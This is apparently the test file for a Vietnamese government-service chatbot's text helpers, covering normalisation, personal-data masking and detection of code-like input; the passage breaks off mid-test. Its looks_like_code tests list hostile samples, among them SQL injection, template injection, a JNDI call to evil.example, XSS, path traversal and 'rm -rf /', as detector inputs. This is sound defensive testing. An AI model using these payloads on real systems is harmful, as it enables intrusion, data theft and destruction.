"""Vietnamese normalisation and personal-data masking (common/text.py)."""

from __future__ import annotations

import re
import unicodedata

import pytest

from common.text import (
    ABBREVIATIONS,
    DIALECT,
    DIALECT_ACCENTED,
    MAX_MESSAGE_CHARS,
    PLACEHOLDERS,
    asks_about_privacy,
    asks_for_a_person,
    asks_something,
    asks_who_answers,
    clean,
    fold,
    has_diacritics,
    input_problem,
    looks_like_code,
    mask_pii,
    nfc,
    normalise,
    proposes,
    sensitive_request,
    shares_secret,
    sounds_like_scam,
    strip_tags,
    tokens,
    truncate,
    with_bigrams,
    without_opening_words,
)

# --- normalisation -------------------------------------------------------------------------------------------


def contains_pii(text: str) -> bool:
    """The tests' oracle: masking changes the text."""
    return mask_pii(text) != text


@pytest.mark.parametrize(
    ("text", "folded"),
    [
        ("Đăng ký", "dang ky"),
        ("ĐĂNG KÝ THƯỜNG TRÚ", "dang ky thuong tru"),
        ("đ Đ", "d d"),
        ("Căn cước công dân", "can cuoc cong dan"),
        ("Lý lịch tư pháp", "ly lich tu phap"),
        ("Quẹt, quét, quát, quất", "quet, quet, quat, quat"),
        ("  nhiều    khoảng\ttrắng \n ", "nhieu khoang trang"),
        ("kich hoat vneid", "kich hoat vneid"),  # already folded: unchanged
        ("", ""),
    ],
)
def test_fold_strips_diacritics_and_lowercases(text: str, folded: str) -> None:
    assert fold(text) == folded


def test_fold_treats_decomposed_input_like_composed() -> None:
    decomposed = unicodedata.normalize("NFD", "Đăng ký khai sinh")
    assert decomposed != "Đăng ký khai sinh"
    assert fold(decomposed) == "dang ky khai sinh"


@pytest.mark.parametrize(
    ("text", "normalised"),
    [
        # the same question typed with and without diacritics meets in one form
        ("Kích hoạt VNeID thế nào?", "kich hoat vneid the nao"),
        ("kich hoat vneid the nao", "kich hoat vneid the nao"),
        ("Không nhận được OTP", "khong nhan duoc otp"),
        ("ko nhan dc otp", "khong nhan duoc otp"),
        ("Ko nhận đc OTP", "khong nhan duoc otp"),
        # abbreviations residents type
        ("ko", "khong"),
        ("k", "khong"),
        ("dc", "duoc"),
        ("đc", "duoc"),
        ("j", "gi"),
        ("sdt", "so dien thoai"),
        ("sđt", "so dien thoai"),
        ("cccd", "can cuoc cong dan"),
        ("CCCD", "can cuoc cong dan"),
        ("mk", "mat khau"),
        ("tk", "tai khoan"),
        ("hs", "ho so"),
        ("lltp", "ly lich tu phap"),
        ("bhyt", "bao hiem y te"),
        ("dk", "dang ky"),
        ("đk", "dang ky"),
        ("quên mk tk vneid", "quen mat khau tai khoan vneid"),
        ("nộp hs lltp ở đâu", "nop ho so ly lich tu phap o dau"),
        ("dk tam tru cho con dc j", "dang ky tam tru cho con duoc gi"),
        # Southern and colloquial words meet the words the guides use
        ("Tui muốn coi hồ sơ, mấy bữa rồi", "toi muon xem ho so may hom roi"),
        ("tui muon coi ho so", "toi muon xem ho so"),
        ("Vô VNeID của má kiếm hoài hổng thấy", "vao vneid cua me tim hoai khong thay"),
        ("Chừng nào có kết quả", "khi nao co ket qua"),
        ("sanh con xong", "sinh con xong"),
        # ...but a word whose folded form means something else is only read with its diacritics
        ("vợ tôi quên mã OTP", "vo toi quen ma otp"),
        ("kiểm tra hồ sơ", "kiem tra ho so"),
        ("địa chỉ", "dia chi"),
        ("điện thoại cũ bị hỏng", "dien thoai cu bi hong"),
        ("được hông", "duoc khong"),
        ("Mạ tui hỏi làm răng, ở mô rứa", "me toi hoi lam sao o dau vay"),
        # punctuation and emoji are not syllables
        ("VNeID?!... 🙏", "vneid"),
        ("CT07, CT01", "ct07 ct01"),
    ],
)
def test_normalise(text: str, normalised: str) -> None:
    assert normalise(text) == normalised


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("kích\u200bhoạt", "kich hoat"),  # zero-width space inside a word; 'kichhoat' is then expanded
        ("\ufeffđăng ký", "dang ky"),  # byte-order mark at the start
        ("vne\u200did", "vneid"),  # zero-width joiner
        ("xin\u2060chào", "xinchao"),  # word joiner
    ],
)
def test_zero_width_characters_are_dropped(text: str, expected: str) -> None:
    assert normalise(text) == expected
    assert not re.search(r"[\u200b-\u200f\u2060-\u2064\ufeff]", nfc(text))


@pytest.mark.parametrize("text", ["", "   ", "\u200b", "😀", "🙏🙏🙏", "👍 😂", "❤️", "?!...", "\n\t"])
def test_empty_and_emoji_only_input_has_no_tokens(text: str) -> None:
    assert tokens(text) == []
    assert normalise(text) == ""


@pytest.mark.parametrize("text", ["", "   ", "😀", "🙏🙏🙏", "👍 😂", "?!..."])
def test_empty_and_emoji_only_input_has_no_diacritics(text: str) -> None:
    assert has_diacritics(text) is False


@pytest.mark.parametrize("text", ["❤️", "kich hoat vneid ☺️", "ok \u2764\ufe0f\ufe0e"])
def test_emoji_variation_selector_is_not_a_diacritic(text: str) -> None:
    # U+FE0F/U+FE0E are category Mn like accents; unaccented text with ❤️ must keep the unaccented dense weight
    assert has_diacritics(text) is False


@pytest.mark.parametrize(("text", "folded"), [("❤️", "❤️"), ("Cảm ơn ☺️", "cam on ☺️")])
def test_fold_keeps_emoji_variation_selectors(text: str, folded: str) -> None:
    assert fold(text) == folded
    assert has_diacritics("Cảm ơn ☺️") is True


@pytest.mark.parametrize(
    ("text", "accented"),
    [
        ("Đăng ký", True),
        ("đc", True),  # đ alone counts
        ("Đ", True),
        ("xin chào 😀", True),
        ("kích hoạt", True),
        ("kich hoat", False),
        ("VNeID CCCD", False),
        ("ko dc j", False),
        ("0912345678", False),
        ("", False),
        ("😀", False),
    ],
)
def test_has_diacritics(text: str, accented: bool) -> None:
    assert has_diacritics(text) is accented


def test_abbreviation_expansions_are_folded() -> None:
    # expansions feed the matcher, which only ever sees folded text
    for short, long in {**ABBREVIATIONS, **DIALECT}.items():
        assert fold(long) == long, short


def test_accented_dialect_words_are_lowercase_and_map_to_other_words() -> None:
    for word, standard in DIALECT_ACCENTED.items():
        assert word == word.lower() and fold(word) != fold(standard), word


def test_with_bigrams_adds_adjacent_pairs() -> None:
    assert with_bigrams(["kich", "hoat", "vneid"]) == ["kich", "hoat", "vneid", "kich_hoat", "hoat_vneid"]
    assert with_bigrams(["mot"]) == ["mot"]
    assert with_bigrams([]) == []


# --- cleaning incoming text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("\ud800kích hoạt", "kích hoạt"),  # a lone surrogate: .encode() used to raise and crash the bot
        ("kích hoạt\udfff", "kích hoạt"),
        ("\ud83d\ude00 ok", "😀 ok"),  # a surrogate pair held as two code points is the emoji it encodes
        ("a\x00b", "ab"),
        ("xin\x07 chào\x7f", "xin chào"),
        ("\x1b[31mđỏ\x1b[0m", "đỏ"),  # terminal colour codes, whole
        ("lỗi\x9b ở đâu\x80", "lỗi ở đâu"),  # C1 controls
        ("xin \u202echào\u202c", "xin chào"),  # bidi override
        ("\u2067tên\u2069 \u200fok\u200e", "tên ok"),  # bidi isolates, RLM/LRM
        ("\ufffekích\uffff \U0010ffff\ufdd0hoạt", "kích hoạt"),  # non-characters
        ("kích\u200bhoạt", "kíchhoạt"),
        ("\ufeffđăng ký", "đăng ký"),
        ("vne\u00adid", "vneid"),  # soft hyphen
        ("dòng 1\r\ndòng 2\rdòng 3\u2028dòng 4\x85dòng 5", "dòng 1\ndòng 2\ndòng 3\ndòng 4\ndòng 5"),
        ("cột 1\tcột 2\n", "cột 1\tcột 2\n"),  # tabs and newlines stay
        (unicodedata.normalize("NFD", "Đăng ký khai sinh"), "Đăng ký khai sinh"),
        ("👍😀🙏 ❤️ ☺️", "👍😀🙏 ❤️ ☺️"),  # emoji and their variation selectors stay
        ("👨\u200d👩\u200d👧", "👨👩👧"),  # a ZWJ sequence falls apart into its emoji: fine
        ("🇻🇳", "🇻🇳"),
        ("Căn cước công dân", "Căn cước công dân"),
        ("", ""),
    ],
)
def test_clean(text: str, cleaned: str) -> None:
    assert clean(text) == cleaned
    assert clean(cleaned) == cleaned  # idempotent


def test_nfc_cleans_too() -> None:
    assert nfc("\ud800 kích\x00 hoạt\u2028vneid ") == "kích hoạt vneid"
    assert fold("\ud800Đăng\x1b[1m ký") == "dang ky"


_NASTY = [
    "",
    "\x00",
    "\x00" * 50,
    "\x1b[31m",
    "\x1b[31mkích hoạt\x1b[0m",
    "\ud800",
    "\udfff\ud800",
    "kích \ud83d hoạt \ude00",
    "\ud83d\ude00",
    "😀👍🙏❤️",
    "👨\u200d👩\u200d👧\u200d👦",
    "\u200d\u200d\u200d",
    "\u202eDIVA\u202c \u200f\u200e\u061c",
    "\u2066\u2067\u2068\u2069",
    "שלום مرحبا kích hoạt",
    "\ufffe\uffff\U0010ffff\ufdd0",
    "a" + "\u0301" * 200,
    "\u0301" * 200,
    "Đ" + "\u0323\u0302" * 100,
    "x" * 100_000,
    "kích hoạt vneid " * 6_250,
    "1" * 100_000,
    "4111 " * 20_000,
    "😀" * 100_000,
    "\ud800" * 10_000,
    "stk " * 10_000 + "0123456789",
    "otp " * 10_000 + "1234",
    "<" * 10_000 + "script" + ">" * 10_000,
    "{{" * 10_000,
    "%s" * 10_000,
    "\r\n\t\x0b\x0c\x85\u2028\u2029",
    "\U000e0067\U000e0062\U000e007f",
    "İ ǅ ß ﬁ Ω",
    "١٢٣٤٥٦٧٨٩٠١٢٣٤٥٦",
    "４１１１１１１１１１１１１１１１",
]


@pytest.mark.parametrize("text", _NASTY, ids=range(len(_NASTY)))
def test_text_helpers_never_raise(text: str) -> None:
    assert isinstance(clean(text), str)
    clean(text).encode("utf-8")
    assert isinstance(nfc(text), str)
    nfc(text).encode("utf-8")
    assert isinstance(fold(text), str)
    assert isinstance(mask_pii(text), str)
    assert isinstance(contains_pii(text), bool)
    assert isinstance(shares_secret(text), bool)
    assert isinstance(normalise(text), str)
    assert isinstance(tokens(text), list)
    assert isinstance(has_diacritics(text), bool)
    assert input_problem(text) in (None, "empty", "no_text", "too_long")
    assert isinstance(looks_like_code(text), bool)


def test_clean_output_always_encodes() -> None:
    # every code point, lone surrogates included, in one string and one by one
    every = "".join(chr(cp) for cp in range(0x110000))
    clean(every).encode("utf-8")
    for cp in range(0, 0x110000, 7):
        clean(chr(cp) + "a" + chr(cp)).encode("utf-8")


# --- personal data -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        # 12-digit CCCD, plain and with separators
        ("CCCD của tôi là 001203012345", "CCCD của tôi là [CCCD]"),
        ("số định danh 001.203.012.345 nhé", "số định danh [CCCD] nhé"),
        ("số 001 203 012 345", "số [CCCD]"),
        ("001-203-012-345", "[CCCD]"),
        ("cccd:079088001234.", "cccd:[CCCD]."),
        # 9-digit CMND
        ("cmnd cũ 123456789", "cmnd cũ [CMND]"),
        ("CMND 025123456 hết hạn", "CMND [CMND] hết hạn"),
        # phone numbers
        ("sdt 0912345678", "sdt [SĐT]"),
        ("gọi 0912 345 678 giúp", "gọi [SĐT] giúp"),
        ("0912.345.678", "[SĐT]"),
        ("sđt: 090 123 4567", "sđt: [SĐT]"),
        ("+84912345678", "[SĐT]"),
        ("+84 912 345 678", "[SĐT]"),
        ("84912345678", "[SĐT]"),
        # 6-digit OTP, alone or in a sentence
        ("123456", "[MÃ]"),
        ("mã 123456 nhé", "mã [MÃ] nhé"),
        ("OTP: 482913", "OTP: [MÃ]"),
        # shorter/longer codes next to OTP words
        ("OTP 1234", "OTP [MÃ]"),
        ("mã xác thực là 98765432", "mã xác thực là [MÃ]"),
        ("Mã xác thực: 4821", "Mã xác thực: [MÃ]"),
        ("ma xac thuc 4821", "ma xac thuc [MÃ]"),
        ("mã xác nhận 12345", "mã xác nhận [MÃ]"),
        ("passcode 654321", "passcode [MÃ]"),
        ("Passcode: 2468", "Passcode: [MÃ]"),
        ("mật khẩu 20252025", "mật khẩu [MÃ]"),
        ("Mã OTP là 123 456", "Mã OTP là [MÃ]"),  # written with a space
        # a message that is only a 4-8 digit code
        ("4821", "[MÃ]"),
        ("12345678", "[MÃ]"),
        (" 482913 \n", "[MÃ]"),
        # a 6-digit code followed by a word, not a unit
        ("123456 đây", "[MÃ] đây"),
        ("mã 123456 đó anh/chị", "mã [MÃ] đó anh/chị"),
        ("123456 dạ", "[MÃ] dạ"),
        ("OTP 123456.", "OTP [MÃ]."),
        # several kinds in one message
        (
            "Tôi 0912345678, cccd 001203012345, otp 123456",
            "Tôi [SĐT], cccd [CCCD], otp [MÃ]",
        ),
    ],
)
def test_mask_pii(text: str, masked: str) -> None:
    assert mask_pii(text) == masked
    assert contains_pii(text)


@pytest.mark.parametrize(
    "text",
    [
        "lệ phí 140000 đồng",
        "phí 150.000đ",
        "hết 150000 đ",
        "nộp 200000 vnd",
        "200000 VNĐ",
        "cọc 150000k",
        "2.000.000 đồng",
        "1.500.000đ",
        "lương 15tr",
        "phí 150000₫",
        "phí 150000 ₫",
        "150000 Đồng",
        "phí 150 nghìn",
        "300 ngàn",
        "vay 2 triệu",
        "nộp 50k",
        "vay 200000000 đồng",  # 9 digits: an amount, not a CMND
        "vay 200000000 vnd",
        "ngân hàng trừ 140000 đồng mà chưa nhận OTP",  # an OTP word does not make the amount a code
        "đã trừ 150.000đ mà chưa có OTP",
        "ngày 12/03/2025",
        "ngày 12-03-2025",
        "ngày 12.03.2025",
        "năm 2025 có phải đổi thẻ không",
        "tôi sinh năm 1990, 65 tuổi",
        "tổng đài 1900 0368",
        "gọi 18001096",
        "mã thủ tục 1.011537",
        "CT07",
        "không có số nào",
        "",
    ],
)
def test_mask_pii_keeps_money_dates_and_hotlines(text: str) -> None:
    assert mask_pii(text) == text
    assert not contains_pii(text)


@pytest.mark.parametrize(
    "code",
    [
        pytest.param("000.00.13.H09-240228-0005", id="commune-code"),
        pytest.param("H29.22-250707-0003", id="province-code"),
        pytest.param("G22.105-240101-000123", id="ministry-code"),
        pytest.param("H09-240228-000512", id="twelve-digits-across-dashes"),
        pytest.param("240228-0005", id="date-and-sequence"),
    ],
)
def test_mask_pii_keeps_dossier_codes(code: str) -> None:
    text = f"Mã hồ sơ của tôi là {code}, tra giúp với"
    assert mask_pii(text) == text
    assert not shares_secret(text)


def test_mask_pii_keeps_letters_of_a_dossier_code() -> None:
    masked = mask_pii("Mã hồ sơ của tôi là 000.00.13.H09-240228-0005, tra giúp với")
    assert masked.startswith("Mã hồ sơ của tôi là ")
    assert masked.endswith(", tra giúp với")


def test_mask_pii_still_masks_numbers_next_to_a_dossier_code() -> None:
    text = "Hồ sơ H29.22-250707-0003, sđt 0912345678, cccd 001203012345"
    assert mask_pii(text) == "Hồ sơ H29.22-250707-0003, sđt [SĐT], cccd [CCCD]"


@pytest.mark.parametrize(
    "text",
    [
        "123456",
        "OTP 1234",
        "passcode: 246810",
        "4821",
        "12345678",
        "Mã OTP là 123 456",
        "123456 đây",
        "mã 123456 đó anh/chị",
        "123456 dạ",
    ],
)
def test_codes_a_resident_sends_are_masked(text: str) -> None:
    assert not re.search(r"\d", mask_pii(text))


@pytest.mark.parametrize("text", ["123 456", "1234 5678"])
def test_bare_code_written_with_a_space_is_masked(text: str) -> None:
    assert mask_pii(text) == "[MÃ]"
    assert shares_secret(text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("năm 2025 tôi không nhận được OTP", id="year"),
        pytest.param("gọi tổng đài 1900 0368 vì không nhận được OTP", id="hotline"),
    ],
)
def test_numbers_far_from_an_otp_word_are_not_secrets(text: str) -> None:
    assert not shares_secret(text)
    assert mask_pii(text) == text


def test_mask_pii_without_digits_returns_the_same_object() -> None:
    text = "Tôi quên mật khẩu VNeID"
    assert mask_pii(text) is text


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("123456", True),
        (" 4821 ", True),
        ("12345678", True),
        ("OTP 123456", True),
        ("mã OTP của tôi là 4821", True),
        ("Mã xác thực: 98765432", True),
        ("Mã OTP là 123 456", True),
        ("4821\n", True),
        ("ma xac nhan 12345", True),
        ("passcode 246810", True),
        ("mật khẩu vneid là 20252025", True),
        ("123", False),
        ("123456789", False),  # a CMND number, not a code
        ("tôi quên mật khẩu", False),
        ("otp không về", False),
        ("không nhận được mã OTP", False),
        ("năm 2025 có phải đổi thẻ", False),
        ("lệ phí 140000 đồng", False),
        ("ngân hàng trừ 140000 đồng mà chưa nhận OTP", False),
        ("mã hồ sơ 000.00.13.H09-240228-0005 chưa có OTP", False),
        ("gọi 0912345678", False),
        ("", False),
    ],
)
def test_shares_secret(text: str, secret: bool) -> None:
    assert shares_secret(text) is secret


# --- bank cards and accounts --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("4111111111111111", "[THẺ]"),
        ("5500-0000-0000-0004", "[THẺ]"),
        ("4111 1111 1111 1111", "[THẺ]"),  # the 12-digit CCCD rule used to take the first 12 digits
        ("4111.1111.1111.1111", "[THẺ]"),
        ("3782 822463 10005", "[THẺ]"),  # Amex, 4-6-5
        ("3714-496353-98431", "[THẺ]"),
        ("3056 9309 0259 04", "[THẺ]"),  # 14 digits
        ("4222222222222", "[THẺ]"),  # 13 digits
        ("6221 2600 0000 0000 019", "[THẺ]"),  # 19 digits
        ("thẻ 4111 1111 1111 1111 bị trừ tiền", "thẻ [THẺ] bị trừ tiền"),
        ("thẻ visa 4111111111111111, sđt 0912345678", "thẻ visa [THẺ], sđt [SĐT]"),
        ("số thẻ: 5500 0000 0000 0004.", "số thẻ: [THẺ]."),
        # 13-19 grouped digits failing Luhn: still masked, whole
        ("4111 1111 1111 1112", "[SỐ]"),
        ("số 1234 5678 9012 3456 7 nhé", "số [SỐ] nhé"),
        ("0012 0301 2345 6789", "[SỐ]"),
    ],
)
def test_mask_pii_masks_card_numbers(text: str, masked: str) -> None:
    assert mask_pii(text) == masked
    assert contains_pii(text)


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1111",
        "4111 1111 1111 1112",
        "1234 5678 9012 3",
        "1234-5678-9012-3456-789",
        "1.234.567.890.123",
        "9704 1234 5678 9012 345",
        "gọi 4111 1111 1111 1112 giúp",
    ],
)
def test_long_digit_runs_are_never_half_masked(text: str) -> None:
    assert not re.search(r"\d", mask_pii(text))


@pytest.mark.parametrize(
    "text",
    [
        "vay 1.000.000.000.000 đồng",  # 13 digits of money, not a card
        "tổng 4111111111111111 vnd",
        "Mã hồ sơ H09.22-240228-4111111111111111",  # glued to a dossier code
        "mã G22.105-240101-000123-4111",
    ],
)
def test_card_rule_keeps_money_and_codes(text: str) -> None:
    assert mask_pii(text) == text


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("stk 0123456789 vietcombank", "stk [STK] vietcombank"),  # would otherwise read as a phone number
        ("số tài khoản: 1903 5555 8888 01", "số tài khoản: [STK]"),
        ("so tai khoan 1903 5555 8888 01", "so tai khoan [STK]"),
        ("chuyen tien vao tk 19035555888801 techcombank", "chuyen tien vao tk [STK] techcombank"),
        ("STK: 0071000123456 VCB", "STK: [STK] VCB"),
        ("Số TK của tôi là 123456", "Số TK của tôi là [STK]"),  # 6 digits: otherwise an OTP
        ("tài khoản ngân hàng 001203012345", "tài khoản ngân hàng [STK]"),  # 12 digits: otherwise a CCCD
        ("tai khoan ngan hang agribank cua minh la 1234-5678-9012", "tai khoan ngan hang agribank cua minh la [STK]"),
        ("tk ngân hàng: 9704.1234.5678", "tk ngân hàng: [STK]"),
        ("account 123456789", "account [STK]"),
        ("acc vcb 0123456789 nhé", "acc vcb [STK] nhé"),
        ("stk\n0123456789", "stk\n[STK]"),
        ("STK:\r\n0123456789", "STK:\r\n[STK]"),
        ("stk  0123456789", "stk  [STK]"),  # a double space does not lose the position
        (unicodedata.normalize("NFD", "số tài khoản 0123456789"), unicodedata.normalize("NFD", "số tài khoản [STK]")),
        ("stk 0123456789, sđt 0912345678", "stk [STK], sđt [SĐT]"),
    ],
)
def test_mask_pii_masks_bank_account_numbers(text: str, masked: str) -> None:
    assert mask_pii(text) == masked
    assert contains_pii(text)


@pytest.mark.parametrize(
    "text",
    [
        "tài khoản VNeID mức 2",
        "mất 2 tài khoản",
        "phí 50.000 đồng",
        "tổng đài 1900 0368",
        "tk bị khóa, gọi 1900 0368",
        "tk ngân hàng bị trừ 150.000 đồng",
        "stk bị trừ 150000đ",
        "tài khoản ngân hàng bị trừ 2 triệu",
        "tk tạo ngày 12.03.2025",
        "tk vneid mức 2",
        "stk 12345",  # too short for an account
        "Mã hồ sơ tk H09.22-240228-0005",
    ],
)
def test_account_rule_keeps_ordinary_numbers(text: str) -> None:
    assert mask_pii(text) == text


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        # a VNeID/dichvucong login is a phone or CCCD number: those labels, not [STK]
        ("tk vneid của tôi là 0912345678", "tk vneid của tôi là [SĐT]"),
        ("tk đăng nhập 001203012345", "tk đăng nhập [CCCD]"),
        ("quên mk tk 0912345678", "quên mk tk [STK]"),
        # an account word far away or in another sentence does not make a number an account
        ("tk của tôi bị khóa rồi, hôm qua tôi gọi 0912345678", "tk của tôi bị khóa rồi, hôm qua tôi gọi [SĐT]"),
        ("stk? sđt 0912345678", "stk? sđt [SĐT]"),
        ("tk bị khóa\ngọi 0912345678", "tk bị khóa\ngọi [SĐT]"),
    ],
)
def test_account_rule_leaves_other_numbers_to_their_rules(text: str, masked: str) -> None:
    assert mask_pii(text) == masked


def test_every_placeholder_is_known_to_input_problem() -> None:
    samples = [
        "4111111111111111",
        "4111 1111 1111 1112",
        "stk 0123456789",
        "0912345678",
        "001203012345",
        "123456789",
        "123456",
    ]
    produced = {placeholder for sample in samples for placeholder in re.findall(r"\[[^\]]+\]", mask_pii(sample))}
    assert produced <= set(PLACEHOLDERS)
    for placeholder in PLACEHOLDERS:
        assert unicodedata.is_normalized("NFC", placeholder)
        assert input_problem(placeholder) == "empty"


# --- unreadable input ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("kích hoạt vneid", None),
        ("ok", None),
        ("<b>xin</b> chào", None),
        ("[MÃ] là mã của tôi", None),
        ("", "empty"),
        ("  \n\t ", "empty"),
        ("\u200b", "empty"),
        ("<p></p>", "empty"),
        ("[MÃ]", "empty"),  # what is left of a bare code after masking
        ("[SĐT] [CCCD]", "empty"),
        ("😀", "no_text"),
        ("🙏🙏🙏", "no_text"),
        ("?!...", "no_text"),
        ("12345", "no_text"),
        ("❤️ [MÃ]", "no_text"),
        (None, "non_text"),
        (123, "non_text"),
        ({"type": "image"}, "non_text"),
        (["a"], "non_text"),
        ("' OR 1=1; DROP TABLE users; --", "code"),
        ("{{7*7}} ${7*7} %s %n", "code"),
        ("<script>alert(1)</script>", "code"),
        ("phí 50% có đúng không?", None),
    ],
)
def test_input_problem(text: object, problem: str | None) -> None:
    assert input_problem(text) == problem


def test_input_problem_too_long() -> None:
    assert MAX_MESSAGE_CHARS == 1500
    assert input_problem("a" * MAX_MESSAGE_CHARS) is None
    assert input_problem("a" * (MAX_MESSAGE_CHARS + 1)) == "too_long"
    assert input_problem("😀" * (MAX_MESSAGE_CHARS + 1)) == "too_long"
    assert input_problem(" " * (MAX_MESSAGE_CHARS + 1)) == "empty"  # nothing to shorten


@pytest.mark.parametrize(
    ("text", "stripped"),
    [
        ("<b>xin</b> chào", " xin  chào"),
        ("<a href='https://vneid.gov.vn'>link</a>", " link "),
        ("a < b", "a < b"),
        ("không có thẻ", "không có thẻ"),
        ("", ""),
    ],
)
def test_strip_tags(text: str, stripped: str) -> None:
    assert strip_tags(text) == stripped


# --- machine-like input -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        # SQL injection
        "' OR 1=1; DROP TABLE users; --",
        "1' UNION SELECT * FROM users",
        "admin'--",
        "' or 'a'='a",
        "1 or 1=1",
        "x'); DROP TABLE users;--",
        "1; DROP TABLE hoso",
        "SELECT username, password FROM users WHERE id=1",
        "'; WAITFOR DELAY '0:0:5'--",
        "1 AND SLEEP(5)",
        '{"$gt": ""}',
        # template and format-string probes
        "{{7*7}} ${7*7} %s %n",
        "{{7*7}}",
        "${7*7}",
        "${{7*7}}",
        "{{ self.__init__.__globals__ }}",
        "<%= system('id') %>",
        "${T(java.lang.Runtime).getRuntime()}",
        "%s%s%s%s",
        "%p %p",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{ config.__class__ }}",
        "{% for x in range(10) %}",
        "${jndi:ldap://evil.example/a}",
        "%x%x%x%x%n",
        # script and HTML
        "<script>alert(1)</script>",
        "javascript:alert(1)",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(document.cookie)>",
        '<iframe src="javascript:alert(1)"></iframe>',
        "<?php system('id'); ?>",
        "kích hoạt vneid<scr\u200bipt>alert(1)</script>",  # a zero-width space does not hide it
        # path traversal
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        # shell
        "; rm -rf /",
        "$(whoami)",
        "`whoami`",
        "| cat /etc/passwd",
        "&& whoami",
    ],
)
def test_looks_like_code(text: str) -> None:
    assert looks_like_code(text) is True


@pytest.mark.parametrize(
    "text",
    [
        "phí 50% có đúng không?",
        "giảm 50%, còn 20% nữa",
        "giảm 50%nhé",
        "hệ thống báo lỗi %s",
        "tin nhắn báo 'Lỗi %s: %s' là sao",
        "tôi nhận tin nhắn 'Ma OTP cua ban la {{otp}}' là sao?",
        "Xin chào ${name}, hồ sơ #{ma_ho_so} đã được tiếp nhận",
        "máy báo lỗi C:\\Windows\\System32\\drivers không mở được",
        "bấm Confirm () không được",
        "mã hồ sơ H09.22-240228-0005 đến đâu rồi",
        "email abc@gmail.com ko nhận được mã",
        "tôi ở xã A; muốn hỏi về CCCD",
        "tôi ở xã A; cat tóc",
        "sao lại bị lỗi {?}",
        "{tên} điền vào đâu",
        "chọn 1 hay 2?",
        "1 + 1 = 2 phải không",
        "kích hoạt vneid -- giúp tôi với",
        "tôi tên 'Lan' -- hỏi về khai sinh",
        ":) cảm ơn",
        "cảm ơn ạ!!! <3",
        "tài khoản bị khóa :( giúp với",
        "ok",
        "select",
        "drop",
        "SELECT",
        "tôi muốn select gói dịch vụ",
        "select the right form from the list",
        "drop hồ sơ được không",
        "cho hỏi về drop table trong excel",
        "update thông tin cccd ở đâu",
        "delete tài khoản vneid thế nào",
        "insert ảnh vào hồ sơ",
        "vào trang https://dichvucong.gov.vn/p/home/dvc-trang-chu.html bị lỗi",
        "<b>xin</b> chào",
        "a < b và c > d",
        "<= 3 ngày",
        "bấm nút thì hiện javascript:void(0) không làm gì",
        "lỗi 404 ../ trang không tìm thấy",
        "thư mục C:/Users/Lan/Documents không mở được",
        "số tiền $100 (khoảng 2 triệu)",
        "mật khẩu phải có ký tự đặc biệt như !@#$%^&*() phải không",
        "tk: abc_123 mk: Abc@123#",
        "từ 1/1/2025 đến 31/12/2025",
        "giờ làm việc 7h30 - 11h30; 13h30 - 17h",
        "Q&A về vneid",
        "#hỏi về #cccd",
        "mã lỗi: ERR_CONNECTION_RESET",
        "nộp hồ sơ online = mất phí không?",
        '{ "a": 1 }',
        "",
    ],
)
def test_resident_messages_do_not_look_like_code(text: str) -> None:
    assert looks_like_code(text) is False


# --- small helpers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "limit", "expected"),
    [
        ("ngắn", 10, "ngắn"),
        ("đúng mười!", 10, "đúng mười!"),
        ("một hai ba bốn năm", 10, "một hai…"),
        ("abcdefghijk", 5, "abcd…"),  # no space: cut mid-word
        ("", 3, ""),
    ],
)
def test_truncate(text: str, limit: int, expected: str) -> None:
    assert truncate(text, limit) == expected


@pytest.mark.parametrize("limit", [5, 17, 40, 120])
def test_truncate_never_exceeds_limit(limit: int) -> None:
    text = "Anh/chị kích hoạt tài khoản định danh điện tử trên ứng dụng VNeID " * 4
    out = truncate(text, limit)
    assert len(out) <= limit
    assert out.endswith("…")


@pytest.mark.parametrize(("text", "asks"), [
    ("Đề nghị xã mở thêm giờ làm việc sáng thứ Bảy.", False),
    ("de nghi xa mo them gio lam viec sang thu bay", False),
    ("Cô cán bộ một cửa hỏi gì cũng trả lời cộc lốc, tôi chỉ muốn phản ánh.", False),  # "cô cán" is not "có cần"
    ("Kiến nghị bỏ quy định bản sao y chỉ dùng 6 tháng, giấy khai sinh có đổi gì đâu.", False),
    ("Cảm ơn các anh công an xã đã làm căn cước tận nhà cho bà tôi.", False),
    ("Thứ Bảy xã có làm việc không", True),
    ("mấy giờ xã mở cửa", True),
    ("làm căn cước hết bao nhiêu tiền", True),
    ("Phiếu hẹn quá rồi mà chưa có kết quả. Tôi khiếu nại ở đâu?", True),
    ("ho so bi tra thi phai lam gi", True),
    ("cho mình hỏi thủ tục khai sinh", True),
    ("Xã mình làm giấy tờ nhanh thiệt, cán bộ chỉ từng bước cho người già.", False),
    # "mấy năm rồi" tells how long; "số máy bàn" is a landline; "không có … nào" denies; "trống không" is curt
    ("Ông ấy thôi tranh chấp đất mấy năm rồi mà cán bộ vẫn bắt đi kiện.", False),
    ("Trang tra cứu nên ghi số máy bàn của người thụ lý.", False),
    ("Lên tới nơi thì hồ sơ trên mạng không có giấy tờ nào.", False),
    ("Cô ấy không đeo thẻ tên, trả lời trống không.", False),
    ("mấy giờ rồi", True),
    ("làm căn cước mấy ngày thì có", True),
    ("hồ sơ của tôi có thiếu giấy nào không", True),
    ("đi làm xa thì có được đăng ký ở đây không hay phải về quê", True),
    ("", False),
])
def test_asks_something(text: str, asks: bool) -> None:
    assert asks_something(text) is asks


@pytest.mark.parametrize(("text", "on_record"), [
    ("Tôi kiến nghị bỏ quy định bản sao chỉ dùng 6 tháng, giấy tờ gốc có đổi gì đâu.", True),
    ("Đề nghị xã mở lớp dạy dùng điện thoại. Về nhà các cụ vẫn không biết dùng vào việc gì.", True),
    ("nhung toi van muon phan anh: hen hoai ma khong giai quyet thi co ich gi", True),
